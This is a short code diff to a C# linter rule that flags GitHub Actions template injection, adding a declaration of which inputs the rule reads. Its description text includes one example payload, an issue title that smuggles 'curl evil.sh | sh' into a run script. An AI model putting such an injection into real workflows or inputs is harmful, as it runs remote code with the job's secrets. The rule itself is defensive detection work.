@@ -13,7 +13,10 @@ public sealed partial class RL1006TemplateInjection : WorkflowRule
     public static readonly RuleDescriptor Rule = new("RL1006", "template-injection",
         "Untrusted text expanded into a script",
         "An attacker-controllable value (issue, pull request, comment and commit text, branch names such as github.head_ref, untyped inputs, or step, job and env values derived from them) expanded with ${{ }} inside a run: script or the script: of actions/github-script. GitHub pastes the value into the script before it runs, so a title like a\"; curl evil.sh | sh; \" runs as code with the job's secrets and token. Numbers, SHAs, ids, logins, step outcomes and ternaries of literals are known to be safe and are not reported.",
-        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8);
+        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8)
+    {
+        Reads = RuleInputs.Workflows | RuleInputs.Actions,
+    };
 
     /// <inheritdoc />
     public override RuleDescriptor Descriptor => Rule;
